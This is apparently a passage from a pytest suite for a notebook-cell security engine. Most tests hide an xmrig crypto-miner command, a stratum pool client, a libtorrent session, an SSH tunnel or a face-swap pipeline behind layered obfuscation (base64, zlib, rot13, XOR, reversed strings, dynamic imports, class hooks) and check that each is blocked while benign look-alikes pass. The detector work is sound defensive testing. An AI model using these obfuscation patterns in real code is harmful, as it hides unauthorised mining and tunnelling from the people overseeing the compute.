                                                    "os.system('nvidia-smi -i ' + os.environ['CUDA_VISIBLE_DEVICES'])",
}


def noisy(text: str) -> str:
    """Lower-case text with an upper-case letter after each character, for a filter to drop."""
    return "".join(c + "QZXV"[i % 4] for i, c in enumerate(text))


def reversed_zip64(text: str) -> str:
    return b64(zlib.compress(text.encode())[::-1])


PIPELINES = {
    "a filter with a negated test drops the noise":
        f"import os\nraw = '{noisy(MINER.lower())}'\nos.system(''.join(filter(lambda c: not c.isupper(), raw)))",
    "a filter by a string predicate's name": "import os\n"
        f"raw = '{''.join(c + '7' for c in 'xmrig')}'\nos.system(''.join(filter(str.isalpha, raw)) + ' -o pool.example.net:3333')",
    "a loop that pipes a blob through a list of decoders":
        "import base64, zlib, subprocess\n"
        f"data = '{reversed_zip64(MINER)}'\nops = [base64.b64decode, lambda b: b[::-1], zlib.decompress, bytes.decode]\n"
        "for op in ops:\n    data = op(data)\nsubprocess.run(data, shell=True)",
    "a reduction that pipes a blob through a tuple of decoders":
        "import base64, zlib, functools, os\n"
        f"cmd = functools.reduce(lambda acc, f: f(acc), (base64.b64decode, lambda b: b[::-1], zlib.decompress, "
        f"bytes.decode), '{reversed_zip64(MINER)}')\nos.system(cmd)",
    "a pipeline whose last step compiles the decoded source, then exec":
        "import base64, zlib\nops = [base64.b85decode, zlib.decompress, bytes.decode, lambda s: compile(s, '<job>', 'exec')]\n"
        f"obj = {base64.b85encode(zlib.compress(f'import os{chr(10)}os.system({MINER!r})'.encode())).decode()!r}\n"
        "for op in ops:\n    obj = op(obj)\nexec(obj)",
    "a call table of decoders walked by constant keys (map(int, '012'))":
        "import base64, binascii, os\ntable = {0: binascii.unhexlify, 1: base64.b64decode, 2: bytes.decode}\n"
        f"x = '{hexed(b64(MINER))}'\nfor k in map(int, '012'):\n    x = table[k](x)\nos.system(x)",
    "a call table of decoders walked by range()":
        "import base64, zlib, os\nsteps = {0: base64.b64decode, 1: zlib.decompress, 2: bytearray.decode}\n"
        f"x = '{b64(zlib.compress(MINER.encode()))}'\nfor i in range(3):\n    x = steps[i](x)\nos.system(x)",
    "a table of the cell's own lambdas walked by the letters of a string":
        "import base64\nT = {'d': lambda s: base64.b64decode(s).decode(), 'r': lambda s: s[::-1]}\n"
        f"code = '{b64(('import os' + chr(10) + 'os.system(' + repr(MINER) + ')')[::-1])}'\n"
        "for k in 'dr':\n    code = T[k](code)\nexec(code)",
    "argv from generator functions run in a comprehension over them":
        "import subprocess\nd = lambda b: bytes(x - 1 for x in b).decode()\n"
        "def warm():\n    yield 'nvidia-smi'\n"
        f"def job():\n    yield from map(d, {[bytes(c + 1 for c in w.encode()) for w in MINER.split()]!r})\n"
        "procs = [subprocess.Popen(list(g())) for g in (warm, job)]",
    # lists spread into a list or joined by +, and varargs handed on: one argv
    "lists spread into the argv": "import subprocess\n"
        f"tool, flags = ['xmrig'], {MINER.split()[1:]!r}\nsubprocess.Popen([*tool, *flags])",
    "a spread list of words decoded by a varargs lambda": "import subprocess\n_c = lambda *n: ''.join(map(chr, n))\n"
        f"flags = [{', '.join(f'_c(*{codes(w)})' for w in MINER.split()[1:])}]\nsubprocess.Popen([_c(*{codes('xmrig')}), *flags])",
    "a varargs lambda that hands its arguments on (lambda *ix: p + f(*ix))":
        "import os\nAB = 'abcdefghijklmnopqrstuvwxyz .:-0123456789'\n_n = lambda *ix: ''.join(AB[i] for i in ix)\n"
        "_v = lambda *ix: 'xm' + _n(*ix)\n"
        f"os.system(_v(*{['abcdefghijklmnopqrstuvwxyz .:-0123456789'.index(c) for c in MINER.lower()[2:]]}))",
    "an argv list kept in a name and joined with another by +": "import subprocess\n"
        "cli = ['xmrig']\ndef run(pool):\n    return subprocess.Popen(cli + ['-o', pool, '-u', 'WALLET'])\n"
        "procs = {k: run(v) for k, v in {'a': 'pool.example.net:3333'}.items()}",
}


@pytest.mark.parametrize("cell", PIPELINES.values(), ids=PIPELINES.keys())
def test_filters_decoder_pipelines_generators_and_spread_lists_are_followed(engine, cell):
    assert_miner_blocked(engine, cell)


PIPELINES_BENIGN = {
    "a filter that drops digits from an ordinary command":
        "import os\nos.system(''.join(filter(lambda c: not c.isdigit(), 'ls1 -la2 /content')))",
    "a loop that pipes a config through decoders":
        f"import base64, zlib, json\ndata = '{reversed_zip64(CONFIG)}'\n"
        "for op in (base64.b64decode, lambda b: b[::-1], zlib.decompress):\n    data = op(data)\nprint(json.loads(data))",
    "a pipeline that compiles and runs a decoded plotting snippet":
        "import base64, zlib\nops = [base64.b85decode, zlib.decompress, bytes.decode, lambda s: compile(s, '<plot>', 'exec')]\n"
        f"obj = {base64.b85encode(zlib.compress(b'import json' + bytes([10]) + b'print(json.dumps({1: 2}))')).decode()!r}\n"
        "for op in ops:\n    obj = op(obj)\nexec(obj)",
    "a call table of decoders walked by constant keys over a config":
        "import base64, binascii, json\ntable = {0: binascii.unhexlify, 1: base64.b64decode, 2: bytes.decode}\n"
        f"x = '{hexed(b64(CONFIG))}'\nfor k in map(int, '012'):\n    x = table[k](x)\nprint(json.loads(x))",
    "a loop that cleans a string with str methods": "s = '  Hello World '\nfor f in [str.strip, str.lower]:\n    s = f(s)\nprint(s)",
    "ordinary argv from generator functions":
        "import subprocess\ndef a():\n    yield 'nvidia-smi'\ndef b():\n    yield from ('ls', '-la')\n"
        "out = [subprocess.run(list(g())) for g in (a, b)]",
    "an ordinary list spread into the argv": "import subprocess\nflags = ['-la', '/content']\nsubprocess.Popen(['ls', *flags])",
    "a varargs lambda that spells an ordinary word": "AB = 'abcdefghijklmnopqrstuvwxyz'\n"
        "_n = lambda *ix: ''.join(AB[i] for i in ix)\n_v = lambda *ix: 'he' + _n(*ix)\nprint(_v(11, 11, 14))",
    "an ordinary argv kept in a name and joined by +": "import subprocess\n"
        "cli = ['npx', '--yes', 'prettier']\ndef fmt(path):\n    return subprocess.Popen(cli + ['--write', path])\n"
        "procs = {k: fmt(v) for k, v in {'a': 'src/app.js'}.items()}",
}


@pytest.mark.parametrize("cell", PIPELINES_BENIGN.values(), ids=PIPELINES_BENIGN.keys())
def test_filters_pipelines_and_spread_lists_of_ordinary_values_are_allowed(engine, cell):
    assert_allowed(engine, cell)


def test_payloads_kept_on_classes_and_packed_with_separators_are_read(engine):
    """Blobs kept as class attributes of subclasses, each an argv joined with a control character, decoded on
    their looks: no statement of the classes names a tool."""
    packed = "\x1f".join(MINER.split()).encode()
    blob = b64(zlib.compress(packed))
    cell = ("import subprocess, zlib, base64\nclass Step:\n    blob = ''\n"
            "    def __call__(self):\n        return subprocess.Popen(zlib.decompress(base64.b64decode(self.blob))"
            ".decode().split(chr(31)))\n"
            f"class Warm(Step): blob = '{b64(zlib.compress(b'nvidia-smi'))}'\nclass Job(Step): blob = '{blob}'\n"
            "procs = [c()() for c in Step.__subclasses__()]")
    verdict = engine.check_code(cell)
    assert verdict.action == "block" and MINER_RULE in {f.rule for f in verdict.findings}, verdict.to_dict()
    ordinary = cell.replace(blob, b64(zlib.compress("\x1f".join(["ls", "-la", "/content"]).encode())))
    assert_allowed(engine, ordinary)


def test_a_compressed_base85_payload_returned_by_a_function_is_read(engine):
    """A payload a function returns, lzma-compressed and base85-encoded, run by a parameterised decorator the folder
    does not follow: the literal alone, decoded on its looks (compressed data in base85), shows the code."""
    def cell(source: str) -> str:
        blob = base64.b85encode(lzma.compress(source.encode())).decode()
        return ("import lzma, base64, runpy\ndef staged(path):\n    def deco(fn):\n        def run():\n"
                "            open(path, 'wb').write(lzma.decompress(base64.b85decode(fn())))\n"
                "            return runpy.run_path(path)\n        return run\n    return deco\n"
                f"@staged('/content/aug.py')\ndef payload():\n    return {blob!r}\npayload()")
    verdict = engine.check_code(cell(f"import os\nos.system({MINER!r})"))
    assert verdict.action == "block" and MINER_RULE in {f.rule for f in verdict.findings}, verdict.to_dict()
    assert_allowed(engine, cell("import json\nprint(json.dumps({'epochs': 10}))"))


def test_a_compressed_payload_written_in_hex_is_read(engine):
    """An lzma payload written out in hex and run through a look-up the folder does not follow (``exec`` taken
    from ``__builtins__`` by a getter): the literal alone, decompressed on its looks, shows the code."""
    def cell(source: str) -> str:
        blob = lzma.compress(source.encode()).hex()
        return ("_bi = globals()['__builtins__']\n_get = _bi.__getitem__ if isinstance(_bi, dict) else "
                "(lambda n: getattr(_bi, n))\n_lz = _get('__import__')('lzma')\n"
                f"_get('exec')(_lz.decompress(bytes.fromhex({blob!r})).decode(), {{}})")
    verdict = engine.check_code(cell(f"import os\nos.system({MINER!r})"))
    assert verdict.action == "block" and MINER_RULE in {f.rule for f in verdict.findings}, verdict.to_dict()
    assert_allowed(engine, cell("import json\nprint(json.dumps({'epochs': 10}))"))


@pytest.mark.parametrize("runner", ["exec(code)", "subprocess.run([sys.executable, '-c', code])"])
def test_code_inside_code_reads_the_environment_the_cell_set(engine, runner):
    """A command kept in os.environ by the cell and run by code the cell executes (exec, python -c): the inner
    code reads the value the outer code set."""
    def cell(command: str) -> str:
        codes = [ord(c) for c in command]
        return ("import os, subprocess, sys\n"
                f"os.environ['JOB'] = ''.join(chr(c) for c in {codes!r})\n"
                "code = 'import os\\nos.system(os.environ[\"JOB\"])'\n" + runner)
    verdict = engine.check_code(cell(MINER))
    assert verdict.action == "block" and MINER_RULE in {f.rule for f in verdict.findings}, verdict.to_dict()
    assert_allowed(engine, cell("nvidia-smi -L"))


def test_strings_of_a_cell_that_names_rot13_are_read_rot13d(engine):
    """A cell that decodes rot13 somewhere (here through an environment variable and a parameterised decorator,
    which the folder does not follow) has its strings read rot13'd; a rot13 exercise stays allowed."""
    cell = ("import codecs, os\n"
            f"os.environ.update({{'J': '{rot13(MINER)}'}})\n"
            "def staged(*keys):\n    def deco(fn):\n        def inner():\n"
            "            return fn(*(codecs.decode(os.environ[k], 'rot13') for k in keys))\n"
            "        return inner\n    return deco\n"
            "@staged('J')\ndef go(cmd):\n    return os.system(cmd)\ngo()")
    verdict = engine.check_code(cell)
    assert verdict.action == "block" and MINER_RULE in {f.rule for f in verdict.findings}, verdict.to_dict()
    assert_allowed(engine, cell.replace(rot13(MINER), rot13("nvidia-smi -L")))
    assert_allowed(engine, "import codecs\nsecret = 'Uryyb, jbeyq! Guvf vf n frperg zrffntr.'\n"
                           "print(codecs.decode(secret, 'rot_13'))\nprint(codecs.encode('pip install numpy', 'rot13'))")


def escaped(text: str) -> str:
    """Text written out as backslash-x escapes, as a raw string holds them."""
    return "".join(f"\\x{ord(c):02x}" for c in text)


def test_escapes_written_out_in_a_cell_that_names_an_escape_codec_are_read(engine):
    """Escapes kept literally in raw strings (``r"\x78\x6d..."``) and turned into text by ``unicode_escape`` far
    from where they stand (here through a JSON file) are read as that text; a cell that unescapes a regex or an
    ordinary message stays allowed."""
    cell = ("import codecs, json, os, tempfile\n"
            f"spec = {{'line': r'{escaped(MINER)}'}}\n"
            "fd, path = tempfile.mkstemp()\nwith os.fdopen(fd, 'w') as fh:\n    json.dump(spec, fh)\n"
            "with open(path) as fh:\n    raw = json.load(fh)\n"
            "os.system(codecs.decode(raw['line'], 'unicode_escape'))")
    assert_miner_blocked(engine, cell)
    assert_allowed(engine, cell.replace(escaped(MINER), escaped("nvidia-smi -L")))
    assert_allowed(engine, "import codecs, re\nCTRL = re.compile(r'[\\x00-\\x1f\\x7f]')\n"
                           "msg = r'caf\\xe9 na\\xefve \\u00e9t\\u00e9'\nprint(CTRL.sub('', codecs.decode(msg, 'unicode_escape')))")


def test_a_value_written_to_a_file_and_read_back_is_followed(engine):
    """A command line put in a file and read back before it runs (``write`` then ``read``, ``json.dump`` then
    ``json.load`` inside ``with`` blocks) is the command that runs; the same round trip of a training config is
    allowed."""
    plain = ("import os\nline = ' '.join(['xm' + 'rig', '-o', 'pool.example.net:3333', '-u', 'WALLET'])\n"
             "with open('/tmp/job.txt', 'w') as fh:\n    fh.write(line)\n"
             "with open('/tmp/job.txt') as fh:\n    os.system(fh.read())")
    assert_miner_blocked(engine, plain)
    dumped = ("import json, subprocess\nplan = {'argv': ['xm' + 'rig', '-o', 'pool.example.net:3333']}\n"
              "with open('plan.json', 'w') as fh:\n    json.dump(plan, fh)\n"
              "with open('plan.json') as fh:\n    spec = json.load(fh)\nsubprocess.run(spec['argv'])")
    assert_miner_blocked(engine, dumped)
    assert_allowed(engine, dumped.replace("['xm' + 'rig', '-o', 'pool.example.net:3333']",
                                          "['python', 'train.py', '--epochs', '3']"))
    texted = ("import json, pathlib, subprocess\nPLAN = pathlib.Path('/content/.plan.json')\n"
              "def save():\n    PLAN.write_text(json.dumps({'t': 'xmrig', 'o': ['-o', 'pool.example.net:3333']}))\n"
              "def load():\n    raw = json.loads(PLAN.read_text())\n    return [raw['t'], *raw['o']]\n"
              "save()\nsubprocess.run(load())")
    assert_miner_blocked(engine, texted)
    assert_allowed(engine, texted.replace("'xmrig'", "'nvidia-smi'").replace("['-o', 'pool.example.net:3333']", "['-L']"))
    assert_allowed(engine, plain.replace("['xm' + 'rig', '-o', 'pool.example.net:3333', '-u', 'WALLET']",
                                         "['nvidia-smi', '-L']"))


def shifted(text: str, k: int) -> list[int]:
    return [ord(c) + k for c in text]


OBJECT_DECODERS = {
    "a callable object whose __call__ shifts codes back": (
        "import os\nclass Shift:\n    def __init__(self, k):\n        self.k = k\n"
        "    def __call__(self, *codes):\n        return ''.join(chr(c - self.k) for c in codes)\n"
        f"u = Shift(7)\nos.system(u(*{shifted(MINER, 7)}))"),
    "an object whose __str__ XORs the bytes it was made with": (
        "import subprocess\nclass K:\n    key = 0x5A\n    def __init__(self, *b):\n        self.b = b\n"
        "    def __str__(self):\n        return bytes(x ^ self.key for x in self.b).decode()\n"
        f"subprocess.run(str(K(*{[ord(c) ^ 0x5A for c in MINER]})), shell=True)"),
    "a string.Template kept in a name and filled in later": (
        "import os, string\ntpl = string.Template('$a$b -o pool.example.net:3333 -u WALLET')\n"
        "os.system(tpl.substitute(a='xm', b='rig'))"),
}


@pytest.mark.parametrize("cell", OBJECT_DECODERS.values(), ids=list(OBJECT_DECODERS))
def test_decoders_kept_in_objects_are_applied(engine, cell):
    """An object of the cell's own class used as a decoder (called, or turned into text) is applied like a
    lambda, with the attributes its __init__ set; the same objects decoding an ordinary command stay allowed."""
    assert_miner_blocked(engine, cell)
    benign = (cell.replace(str(shifted(MINER, 7)), str(shifted("nvidia-smi -L", 7)))
              .replace(str([ord(c) ^ 0x5A for c in MINER]), str([ord(c) ^ 0x5A for c in "nvidia-smi -L"]))
              .replace("'$a$b -o pool.example.net:3333 -u WALLET'", "'$a$b -L'")
              .replace("a='xm', b='rig'", "a='nvidia', b='-smi'"))
    assert benign != cell
    assert_allowed(engine, benign)


def test_ordinary_classes_with_str_and_call_stay_allowed(engine):
    """Records that print themselves and model wrappers that are called are what such methods are for."""
    assert_allowed(engine, "from dataclasses import dataclass\nclass Point:\n    def __init__(self, x, y):\n"
                           "        self.x, self.y = x, y\n    def __str__(self):\n        return f'({self.x}, {self.y})'\n"
                           "print(str(Point(1, 2)))")
    assert_allowed(engine, "import torch\nclass Scaler:\n    def __init__(self, k):\n        self.k = k\n"
                           "    def __call__(self, x):\n        return x * self.k\nprint(Scaler(3)(torch.ones(2)))")
    assert_allowed(engine, "import string\nt = string.Template('Dear $name, your run $job finished')\n"
                           "print(t.substitute(name='Ada', job='resnet-3'))")


def test_names_joined_by_reduce_with_a_start_and_reversed_bytes_are_read(engine):
    """``reduce(lambda a, b: a + b, parts, '')`` joins its parts after the start value, and ``bytes(reversed(b'...'))``
    reads a byte string backwards; the same helpers building an ordinary name stay allowed."""
    cell = ("import functools, importlib\n_j = lambda *p: functools.reduce(lambda a, b: a + b, p, '')\n"
            "m = importlib.import_module(bytes(reversed(b'ssecorpbus')).decode())\n"
            "getattr(m, _j('r', 'un'))([_j('xm', 'rig'), '-o', 'pool.example.net:3333', '-u', 'WALLET'])")
    assert_miner_blocked(engine, cell)
    assert_allowed(engine, cell.replace("_j('xm', 'rig')", "_j('nvidia', '-smi')").replace(
        ", '-o', 'pool.example.net:3333', '-u', 'WALLET'", ", '-L'"))


def test_decoded_strings_inside_a_built_dict_are_read(engine):
    """``dict(zip(keys, map(decode, blobs)))``: each decoded value is text for the rules (a pool protocol's method
    names); the same table of ordinary words stays quiet."""
    def cell(words):
        blobs = [base64.b32encode(w.encode()).decode() for w in words]
        return ("import base64, json, socket\nb = lambda s: base64.b32decode(s).decode()\n"
                f"N = dict(zip(('sub', 'auth'), map(b, {blobs!r})))\n"
                "s = socket.create_connection(('203.0.113.5', 3333))\n"
                "s.sendall((json.dumps({'id': 1, 'method': N['sub'], 'params': []}) + '\\n').encode())")
    verdict = engine.check_code(cell(["mining.subscribe", "mining.authorize"]))
    assert "crypto_mining.stratum-client" in {f.rule for f in verdict.findings}, verdict.to_dict()
    assert engine.check_code(cell(["status.ping", "status.hello"])).action == "allow"


def test_a_decoder_called_where_it_stands_is_read(engine):
    """A pool protocol's method name decoded inside a comparison, not bound to a name first; the same decoder
    over an ordinary word stays quiet."""
    cell = ("import socket, codecs\nR = lambda s: codecs.decode(s[::-1], 'rot13')\n"
            "s = socket.create_connection(('203.0.113.5', 3333))\nf = s.makefile('rw')\n"
            f"if json.loads(f.readline()).get('method') == R('{codecs.encode('mining.notify', 'rot13')[::-1]}'):\n"
            "    pass")
    verdict = engine.check_code(cell)
    assert verdict.action == "block" and "crypto_mining.stratum-client" in {f.rule for f in verdict.findings}
    quiet = cell.replace(codecs.encode('mining.notify', 'rot13')[::-1], codecs.encode('status.ping', 'rot13')[::-1])
    assert engine.check_code(quiet).action == "allow"


def test_a_reversed_string_in_a_method_call_is_read(engine):
    """A pool protocol's method name reversed inside a call of the cell's own method (``self.call(...[::-1])``);
    the same reversal of an ordinary word stays quiet."""
    cell = ("import json, socket\nclass Client:\n    def __init__(self, host):\n"
            "        self.s = socket.create_connection((host, 3333))\n"
            f"        self.call('{'mining.subscribe'[::-1]}'[::-1], [])\n"
            "    def call(self, method, params):\n"
            "        self.s.sendall((json.dumps({'id': 1, 'method': method, 'params': params}) + '\\n').encode())\n"
            "Client('203.0.113.5')")
    verdict = engine.check_code(cell)
    assert verdict.action == "block" and "crypto_mining.stratum-client" in {f.rule for f in verdict.findings}
    assert engine.check_code(cell.replace('mining.subscribe'[::-1], 'status.ping'[::-1])).action == "allow"


def test_names_a_look_up_helper_decodes_are_text_for_the_rules(engine):
    """``fn = lambda s: getattr(cv, b32decode(s).decode())``: the OpenCV calls it reaches (a video read, seamless
    cloning) count as written out; the same helper reaching a blur does not make a face swap."""
    names = {n: base64.b32encode(n.encode()).decode() for n in ("VideoCapture", "seamlessClone", "GaussianBlur")}
    cell = ("import base64, importlib\ncv = importlib.import_module('cv2')\n"
            "fn = lambda s: getattr(cv, base64.b32decode(s).decode())\n"
            "casc = cv.CascadeClassifier(cv.data.haarcascades + 'haarcascade_frontalface_default.xml')\n"
            f"cap = fn('{names['VideoCapture']}')('talk.mp4')\nok, frame = cap.read()\n"
            "for (x, y, w, h) in casc.detectMultiScale(frame, 1.1, 5):\n"
            f"    frame = fn('{names['seamlessClone']}')(patch, frame, mask, (x, y), cv.NORMAL_CLONE)")
    verdict = engine.check_code(cell)
    assert "deepfake.video-face-paste" in {f.rule for f in verdict.findings}, verdict.to_dict()
    blur = cell.replace(f"fn('{names['seamlessClone']}')(patch, frame, mask, (x, y), cv.NORMAL_CLONE)",
                        f"fn('{names['GaussianBlur']}')(frame, (51, 51), 0)")
    assert engine.check_code(blur).action == "allow"


@pytest.mark.parametrize("cell", TABLES_BENIGN.values(), ids=TABLES_BENIGN.keys())
def test_keyed_ciphers_and_tables_on_ordinary_data_are_allowed(engine, cell):
    assert_allowed(engine, cell)


def test_sudo_line_pasted_without_its_bang_is_a_shell_line(engine):
    """A notebook kept as a list of terminal commands: `sudo cmd` is no Python statement, so it is read as `!sudo`;
    a variable named sudo stays Python."""
    pasted = engine.check_code("sudo wg-quick down wg0 || true\nsudo wg-quick up wg0\nsudo wg\n")
    assert pasted.action == "block" and pasted.findings[0].rule == "proxy_tunnel.vpn-join"
    variable = engine.check_code("sudo = users_with_root()\nsudo in admins\nprint([sudo for sudo in admins])\n")
    assert variable.action == "allow"
    assert not any("syntax error" in n for n in variable.notes)


def test_a_script_line_its_variables_fill_in_is_read_as_text_again(engine):
    """`PORT=22` then `bore local $PORT`: the filled line is not in the source, so the text rules read it too."""
    ssh = engine.check_code("PORT=22\nbore local $PORT --to=bore.pub > /tmp/bore.log\n", "shell")
    assert ssh.category == "remote_desktop_ssh", ssh.to_dict()
    demo = engine.check_code("PORT=8501\nbore local $PORT --to=bore.pub > /tmp/bore.log\n", "shell")
    assert not any(f.category == "remote_desktop_ssh" for f in demo.findings), demo.to_dict()


@pytest.mark.parametrize("cell,rule", [
    ("import libtorrent as lt, codecs\nses = lt.session()\np = lt.parse_magnet_uri(link)\np.save_path = '/content/dl'\n"
     "h = getattr(ses, codecs.decode('nqq_gbeerag', 'rot13'))(p)", "torrent_p2p.libtorrent-add-download"),
    ("import importlib\nt = importlib.import_module('tnerrotbil'[::-1])\nS = getattr(t, 'noisses'[::-1])\n"
     "ses = S({'listen_interfaces': '0.0.0.0:6881'})\ngetattr(ses, 'no_netsil'[::-1])(6881, 6891)",
     "torrent_p2p.libtorrent-session"),
])
def test_a_call_whose_function_is_hidden_is_read_as_written_plainly(engine, cell, rule):
    """The rules' regexes read ``getattr(ses, <decoded>)(p)`` as ``ses.add_torrent(p)``."""
    verdict = engine.check_code(cell)
    assert rule in {f.rule for f in verdict.findings} and verdict.action == "block", verdict.to_dict()


@pytest.mark.parametrize("cell", [
    "import os, codecs\njoin = getattr(os.path, codecs.decode('wbva', 'rot13'))\nprint(join('data', 'train.csv'))",
    "from os.path import join as pjoin\nimport torch\nsave = getattr(torch, 'evas'[::-1])\nsave({}, pjoin('ckpt', 'm.pt'))",
])
def test_hidden_ordinary_calls_are_allowed(engine, cell):
    assert_allowed(engine, cell)


PARTIALS_AND_FACTORIES = {
    "a partial of a lambda that takes its decoder as an argument":
        "import functools, base64, codecs, os\n"
        "d = functools.partial(lambda f, s: codecs.decode(f(s).decode(), 'rot13'), base64.b64decode)\n"
        f"os.system(d('{b64(rot13(MINER))}'))",
    "a partial of a named decoder with a keyword":
        "import functools, codecs, os\nr = functools.partial(codecs.decode, encoding='rot13')\n"
        f"os.system(r('{rot13(MINER)}'))",
    "a runner bound with its keywords by partial":
        "from functools import partial\nimport subprocess\nsh = partial(subprocess.run, shell=True)\n"
        f"sh('{MINER[::-1]}'[::-1])",
    "a closure factory: lambda k returns the decoder that keeps k":
        "import os\nmk = lambda k: (lambda data: ''.join(chr(b ^ k) for b in data))\nun = mk(7)\n"
        f"os.system(un({[ord(c) ^ 7 for c in MINER]}))",
    "names unpacked from a generator of the cell that only yields":
        "import base64\ndef stages():\n    yield getattr(base64, 'b64decode')\n    yield __import__('so'[::-1])\n"
        f"dec, o = stages()\no.system(dec('{b64(MINER)}').decode())",
    "modules kept in dict(zip(keys, map(import_module, ...))) and picked by key":
        "import importlib\nmods = dict(zip('os', map(importlib.import_module, ('so'[::-1], 'sys'))))\n"
        f"mods['o'].system('{MINER[::-1]}'[::-1])",
    "an import wrapper with *args (lambda *c: __import__(''.join(map(chr, c))))":
        "g = lambda *c: __import__(''.join(map(chr, c)))\no = g(" + ", ".join(map(str, codes("os")))
        + f")\no.system('{MINER[::-1]}'[::-1])",
    "a tuple of imports unpacked through its name":
        "mods = tuple(map(lambda h: __import__(bytes.fromhex(h).decode()), ('"
        + hexed("os") + "', '" + hexed("sys") + f"')))\no, s = mods\no.system('{MINER[::-1]}'[::-1])",
}


@pytest.mark.parametrize("cell", PARTIALS_AND_FACTORIES.values(), ids=PARTIALS_AND_FACTORIES.keys())
def test_partials_factories_and_tables_of_modules_are_followed(engine, cell):
    assert_miner_blocked(engine, cell)


@pytest.mark.parametrize("cell", [
    "import functools, codecs\nr = functools.partial(codecs.decode, encoding='rot13')\nprint(r('uryyb jbeyq'))",
    "from functools import partial\nimport subprocess\nsh = partial(subprocess.run, shell=True, check=True)\n"
    "sh('nvidia-smi && python train.py --epochs 3')",
    "mk = lambda k: (lambda xs: [x * k for x in xs])\ndouble = mk(2)\nprint(double([1, 2, 3]))",
    "import importlib\nmods = dict(zip(('np', 'pd'), map(importlib.import_module, ('numpy', 'pandas'))))\n"
    "print(mods['np'].zeros(3))",
    "def stages():\n    yield 'load'\n    yield 'train'\nfirst, second = stages()\nprint(first, second)",
])
def test_ordinary_partials_factories_and_tables_are_allowed(engine, cell):
    assert_allowed(engine, cell)


def test_a_release_url_with_an_unknown_version_still_names_what_it_downloads(engine):
    """The version read from a config or the environment is unknown, yet the host and the file name are spelled
    out: the download is read with a placeholder for the unknown part.  The same URL shape for an ordinary tool
    passes."""
    cell = ("import io, json, os, tarfile, urllib.request\nspec = json.loads(os.environ['SPEC'])\n"
            "url = 'https://github.com/filebrowser/filebrowser/releases/download/' + spec['v'] + "
            "'/linux-amd64-filebrowser.tar.gz'\n"
            "tarfile.open(fileobj=io.BytesIO(urllib.request.urlopen(url).read())).extractall('/var/tmp/x')")
    verdict = engine.check_code(cell)
    assert verdict.action == "warn" and "web_file_hosting.server-package-install" in {f.rule for f in verdict.findings}, \
        verdict.to_dict()
    assert_allowed(engine, cell.replace("filebrowser/filebrowser", "jgm/pandoc")
                   .replace("linux-amd64-filebrowser.tar.gz", "pandoc-linux-amd64.tar.gz"))


def test_strings_read_backwards_where_the_cell_reverses_text_somewhere(engine):
    """A cell that reverses text somewhere (``[::-1]`` in a hook the folder cannot follow, here a dataclass's
    ``__getattribute__``) has each string read backwards too, and backwards after rot13 when it names rot13: what
    that says is judged like the rest of the cell.  The same hook over an ordinary command passes."""
    hidden = rot13("xmrig -o pool.example.net:3333 -u WALLET")[::-1]
    cell = ("import codecs, subprocess\nfrom dataclasses import dataclass\n@dataclass\nclass Unit:\n"
            f"    a: str = '{hidden}'\n"
            "    def __getattribute__(self, k):\n        v = object.__getattribute__(self, k)\n"
            "        return codecs.decode(v, 'rot13')[::-1] if len(k) == 1 else v\n"
            "subprocess.Popen(Unit().a.split())")
    verdict = engine.check_code(cell)
    assert verdict.action == "block" and verdict.category == "crypto_mining", verdict.to_dict()
    assert_allowed(engine, cell.replace(hidden, rot13("python train.py --epochs 3")[::-1]))
    # text reversed for display, in a cell with no hidden strings, passes too
    assert_allowed(engine, "word = input('word: ')\nprint(word[::-1] == word and 'palindrome' or 'plain')\n"
                           "labels = ['cat', 'dog', 'bird'][::-1]\nprint(', '.join(labels), 'predicted')")


def test_text_kept_as_packed_integers_is_read(engine):
    """Text kept as 32-bit words and packed back with ``struct.pack`` (padding cut with ``rstrip``), then run: the
    words are read as the text they pack.  Ordinary binary packing of numbers passes."""
    import struct

    raw = MINER.encode() + b"\0" * (-len(MINER) % 4)
    words = struct.unpack(f"<{len(raw) // 4}I", raw)
    cell = (f"import os, struct\nw = {words!r}\n"
            "cmd = struct.pack(f'<{len(w)}I', *w).rstrip(b'\\0').decode()\nos.system(cmd)")
    assert_miner_blocked(engine, cell)
    # the same words through array.array, handed to a varargs lambda
    assert_miner_blocked(engine, "import array, os\n_n = lambda *v: array.array('I', v).tobytes().rstrip(b'\\0')"
                                 f".decode()\nos.system(_n({', '.join(map(hex, words))}))")
    assert_allowed(engine, "import struct\nheader = struct.pack('<4I', 1, 2, 640, 480)\n"
                           "print(header.hex(), len(header))")


OBJECTS = {
    "a plain method of a class holding its bytes": "import os\nclass Blob:\n    def __init__(self, raw):\n"
        "        self.raw = raw\n    def text(self):\n        return bytes(b ^ 0x37 for b in self.raw).decode()\n"
        f"os.system(Blob(bytes({[b ^ 0x37 for b in MINER.encode()]})).text())",
    "a frozen dataclass whose property decodes its field": "import os\nfrom dataclasses import dataclass\n"
        "@dataclass(frozen=True)\nclass Blob:\n    raw: bytes\n    @property\n    def text(self):\n"
        "        return bytes(b ^ 0x37 for b in self.raw).decode()\n"
        f"SRC = Blob(bytes({[b ^ 0x37 for b in MINER.encode()]}))\nos.system(SRC.text)",
    "an __getattr__ hook handing out decoded entries of a class table": "import functools, operator, os\n"
        "class Lazy:\n"
        f"    _tbl = {{'c': {tuple(ord(c) + 3 for c in MINER)}}}\n"
        "    def __getattr__(self, k):\n"
        "        return functools.reduce(operator.add, map(chr, (c - 3 for c in self._tbl[k])), '')\n"
        "L = Lazy()\nos.system(L.c)",
    "a registry whose __getitem__ decodes hex entries": "import os\nclass Reg:\n"
        f"    _d = {{'c': '{hexed(MINER)}'}}\n"
        "    def __getitem__(self, k):\n        return bytes.fromhex(self._d[k]).decode()\n"
        "r = Reg()\nos.system(r['c'])",
}


@pytest.mark.parametrize("cell", OBJECTS.values(), ids=OBJECTS.keys())
def test_objects_read_through_methods_properties_dataclass_fields_and_hooks(engine, cell):
    assert_miner_blocked(engine, cell)


@pytest.mark.parametrize("cell", [
    "from dataclasses import dataclass\n@dataclass\nclass Run:\n    lr: float = 0.001\n    name: str = 'base'\n"
    "    @property\n    def tag(self):\n        return self.name + '-lr'\nprint(Run(name='wide').tag)",
    "import os\nclass Cfg:\n    _tbl = {'cmd': 'nvidia-smi'}\n    def __getattr__(self, k):\n        return self._tbl[k]\n"
    "os.system(Cfg().cmd)",
])
def test_ordinary_objects_read_the_same_way_are_allowed(engine, cell):
    assert_allowed(engine, cell)


def test_layers_of_encodings_are_peeled_on_their_looks(engine):
    """Hex of base64 of a reversed command, decoded by an object whose ``__call__`` loops over its layers (which
    the folder does not follow): each layer that still reads as an encoding is peeled on its looks, and the last
    one read backwards because the cell reverses text.  The same object over an ordinary command passes."""
    def wrap(text: str) -> str:
        return base64.b64encode(text[::-1].encode()).hex()

